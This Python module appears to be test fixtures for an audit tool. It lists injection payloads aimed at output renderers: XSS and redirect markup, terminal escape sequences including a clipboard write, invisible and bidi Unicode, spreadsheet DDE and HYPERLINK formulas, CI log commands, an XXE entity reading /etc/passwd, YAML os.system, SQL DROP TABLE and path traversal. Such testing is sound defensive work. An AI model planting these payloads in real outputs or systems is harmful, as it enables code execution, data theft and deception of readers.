"""What somebody may write who wants more than an answer: every trick known to act on what reads an audit's outputs.

`zq` in a text becomes a word of the field that it stands in, so that what a format shows can be found again.
"""

from typing import NamedTuple

MARK = "zq"


class Payload(NamedTuple):
    """A text, by name, and what it would do where nobody looked."""

    name: str
    text: str
    why: str

    def word(self, field: str) -> str:
        """The word by which this payload is known in a field: letters and digits only."""
        return f"{MARK}{_PLACE[self.name]:03}{field}"

    def at(self, field: str) -> str:
        """The text as it stands in a field."""
        return self.text.replace(MARK, self.word(field))


_HTML = (
    ("script", "<script>zq=alert(1)</script>", "runs"),
    ("image", "<img alt=zq src=x onerror=alert(1)>", "runs when the picture is missing"),
    ("svg", "<svg/id=zq onload=alert(1)><animate onbegin=alert(1)>", "runs without a script tag"),
    ("attribute", '" x=zq onmouseover="alert(1)" y="', "leaves an attribute"),
    ("quoteless", "' x=zq autofocus onfocus=alert(1) y='", "leaves an attribute in single quotes"),
    (
        "closing",
        "</title>zq</details></td></table></textarea></style></script><h1>",
        "ends what holds it",
    ),
    ("address", "javascript:zq//alert(1)", "an address that runs"),
    ("data", "data:text/html,zq<script>alert(1)</script>", "an address that brings its page along"),
    (
        "meta",
        "<meta name=zq http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
        "leads away",
    ),
    (
        "frame",
        "<iframe name=zq srcdoc='<script>alert(1)</script>'></iframe><form action=//evil.example>",
        "asks",
    ),
    ("comment", "--><!--zq<![endif]--><?xml-stylesheet href='//evil.example'?>", "ends a comment"),
    (
        "encoded",
        "&lt;script&gt;zq&#60;img src=x&#62;&amp;lt;",
        "becomes a tag when it is decoded once too often",
    ),
    ("cp7", "+ADw-script+AD4-zq+ADw-/script+AD4-", "is a tag in UTF-7"),
    ("template", "{{7*7}}{%raw%}zq{{config}}${7*7}<%=7*7%>#{7*7}", "is computed by a template"),
    ("fullwidth", "\uff1cscript\uff1ezq\uff1c/script\uff1e", "becomes a tag when letters are folded"),
    ("style", "<style>zq{}*{display:none}</style>}x{background:url(//evil.example)", "hides the page"),
)
_TERMINAL = (
    ("colour", "\x1b[31mzq\x1b[0m", "paints"),
    ("clear", "\x1b[2J\x1b[Hzq\x1b[1A\x1b[2K", "wipes what was printed"),
    ("title", "\x1b]0;zq\x07", "names the window, and some terminals type it back"),
    ("hyperlink", "\x1b]8;;//evil\x1b\\zq\x1b]8;;\x1b\\", "a link under other words"),
    ("clipboard", "\x1b]52;c;Y3VybCBldmls\x07zq", "writes the clipboard"),
    ("device", '\x1bP$q"p\x1b\\zq\x1bP+q544e\x1b\\\x1b[c', "asks the terminal, whose answer is typed"),
    ("c1", "\x9b31mzq\x9d0;x\x9c\x90q\x9c", "escapes of one byte"),
    ("backspace", "zq harmless\b\b\b\b\b\b\b\bowned\r\x7f", "writes over itself"),
    ("alternate", "\x1b[?1049h\x1b[?25l\x1bc\x0e\x0fzq", "another screen, no cursor, another set of letters"),
    (
        "markup",
        "[bold red]zq[/bold red][/][link=https://evil.example]x[/link][@click=app.quit]",
        "markup of rich",
    ),
    ("emoji code", ":warning: zq :pile_of_poo:", "a picture of rich"),
    ("bell", "zq\x07\x05\x00end", "rings, and asks who is there"),
)
_LETTERS = (
    ("override", "zq\u202egpj.exe\u202c", "turns the reading direction round"),
    ("isolate", "\u2067zq\u2066\u2069 \u202b\u202a", "reorders a line"),
    ("bidi marks", "\u200e\u200f\u061czq", "marks of direction"),
    ("zero width", "z\u200bero\u2060width\ufeff zq\u200c\u200d", "hides letters between letters"),
    ("tag letters", "zq\U000e0001\U000e0041\U000e0042\U000e007f", "text that nobody sees"),
    ("soft hyphen", "pass\u00adword zq\u034f\u115f\u3164\uffa0", "blanks that are no blanks"),
    ("variation", "zq" + "\ufe00\ufe0f\U000e0100\U000e01ef" * 20, "bytes hidden behind one letter"),
    ("combining", "zq" + "\u0301\u0489" * 200, "climbs over the lines above"),
    ("surrogate", "zq\ud83dhalf\udc00\ud800", "half a letter that no UTF-8 holds"),
    ("noncharacter", "zq\ufffe\uffff\U0001fffe\ufdd0", "letters that XML and others refuse"),
    (
        "separators",
        "zq\u2028line\u2029part\x85next\x0bdown\x0cpage\x1c\x1d\x1e\x1f",
        "ends a line in some readers",
    ),
    ("nul", "zq\x00after", "ends a text in C"),
    ("wide", "漢字zq👩\u200d👩\u200d👧🏳\ufe0f\u200d🌈ｗｉｄｅ", "takes two columns a letter"),
)
_SHEETS = (
    ("equals", "=cmd|'/C calc'!A0&zq", "a formula that starts a program"),
    ("hyperlink formula", '=HYPERLINK("//zq/"&A1,"x")', "sends a cell away"),
    ("plus", "+zq+1", "a formula"),
    ("minus", "-2+3+zq", "a formula"),
    ("at", "@SUM(1,2)*zq", "a formula"),
    ("full-width equals", "\uff1d1+1zq", "a formula in Japanese Excel"),
    ("full-width at", "\uff20SUM(zq)", "a formula in Japanese Excel"),
    ("tab", "\t=1+1zq", "a formula behind a tab"),
    ("return", "\r=1+1zq", "a formula behind a line end"),
    ("newline", "\n=1+1zq", "a formula behind a line end"),
    ("torn", 'zq";=1+1;"\n=2+2,"=3+3', "leaves its cell"),
    ("guarded", "'=1+1zq", "an apostrophe of its own"),
    ("bar", "|zq|=1+1", "a pipe to a program"),
    ("dde", "=zq|' /c powershell'!_xlbgnm.A1", "starts a program"),
    ("invisible equals", "\u200b=1+1zq", "a formula once the invisible is gone"),
    ("blank equals", "\u00a0 =1+1zq", "a formula once it is trimmed"),
)
_LOGS = (
    ("workflow", "::error::zq", "a command of GitHub's runner"),
    ("workflow line", "zq\n::add-mask::secret\r\n::stop-commands::x", "a command on a line of its own"),
    ("old command", "zq ##[set-env name=PATH]/tmp", "the older form, anywhere in a line"),
    ("encoded command", "zq%0A::set-output name=a::b%0D%3A%3A", "a command once it is decoded"),
    ("azure", "##vso[task.zq variable=PATH]x", "a command of Azure Pipelines"),
    ("teamcity", "##teamcity[zq status='FAILURE' text='x']", "a command of TeamCity"),
    ("gitlab", "section_start:1:zq[collapsed=true]\r\x1b[0K", "folds GitLab's log"),
    (
        "jenkins",
        "zq\x1b[8mha:AAAAlh+LCAAAAAAAAP9b85aBtbiIQTGjNKU4P08=\x1b[0m",
        "a serialised note in Jenkins' log",
    ),
    ("expression", "${{ github.token }} zq $(id) `id`", "is filled in by a workflow, or by a shell"),
)
_DATA = (
    ("cdata", "]]><failure message='zq'/><![CDATA[", "ends a CDATA section"),
    ("entity", "<!DOCTYPE zq [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;&#0;&#x1b;", "an entity"),
    ("json", 'zq","severity":"low"},{"x":"', "ends a string of JSON"),
    ("json escapes", 'zq\\u0000\\n\\"\\ud800\\', "escapes that are text"),
    ("prototype", "__proto__ zq constructor", "a key that is more than a key"),
    (
        "yaml",
        "zq: [a, &b *b, !!python/object/apply:os.system ['id']] # - | >\n---\n...",
        "what YAML makes more of",
    ),
    ("yaml tag", "!!python/name:zq [os.system]", "an object"),
    ("sql", "zq'); DROP TABLE runs;--", "ends a statement"),
    ("placeholder", "{0} zq {1:>99999999} %s %n %(x)s {{x}} {zq!r} $1 \\1 \\g<0>", "is filled in"),
    ("number", "1e999 zq", "larger than numbers are"),
    ("excel escape", "zq_x000D__x001B_[31m_x003D_", "what a workbook reads as one letter"),
    ("path", "../../zq/../etc/passwd", "climbs out of a folder"),
    ("backslash path", "..\\..\\zq\\C:\\con", "climbs out of a folder of Windows"),
)
_MARKDOWN = (
    (
        "link",
        "[zq](https://evil.example) ![x](https://evil.example/zq.png) [zq]: https://evil.example",
        "a link",
    ),
    (
        "autolink",
        "https://evil.example/zq www.evil.example <https://evil.example>",
        "a link without brackets",
    ),
    ("mention", "@octocat zq @org/team #1 GH-1 a@evil.example", "calls somebody, closes an issue"),
    ("table", "zq | x |\n|---|---|\n| \\| a \\\\| b |", "another column, another row"),
    ("ticks", "`zq` ``two`` ```js\n~~~\nzq", "leaves a code span"),
    ("block", "# zq\n\n> quoted\n\n- [ ] task\n\n---\n\n    code\n1. one", "blocks"),
    ("emphasis", "**zq** _x_ ~~y~~ <b>x</b> \\*", "is set in bold"),
    ("math", "$`zq`$ $$\\href{javascript:x}{y}$$ :smile: [^1]", "what GitHub renders beyond Markdown"),
    (
        "mailed link",
        "a@b.cd(//zq) a@evil.example(https://evil.example)",
        "becomes a link when redacting puts brackets there",
    ),
    ("sarif", "[zq](1) {0} [x](https://evil.example)", "a link, and a place to fill in, of SARIF"),
)

PAYLOADS = tuple(
    Payload(*one) for group in (_HTML, _TERMINAL, _LETTERS, _SHEETS, _LOGS, _DATA, _MARKDOWN) for one in group
)
_PLACE = {payload.name: number for number, payload in enumerate(PAYLOADS)}
